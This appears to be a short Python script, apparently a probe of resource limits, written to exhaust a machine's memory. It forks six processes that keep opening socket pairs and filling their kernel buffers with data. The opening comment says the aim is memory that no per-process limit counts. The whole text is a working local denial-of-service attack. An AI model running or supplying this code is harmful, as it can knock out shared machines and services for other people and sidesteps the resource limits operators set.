# tries: to fill the memory of the machine with what waits in pairs of sockets, which no limit of a process counts
import os, socket, time

kept = []
for child in range(6):
    if os.fork() == 0:
        while True:
            try:
                pair = socket.socketpair()
                pair[0].setblocking(False)
                kept.append(pair)
                while True:
                    pair[0].send(bytes(100_000))
            except BlockingIOError:
                pass
            except OSError:
                time.sleep(9)
                os._exit(0)
time.sleep(3)
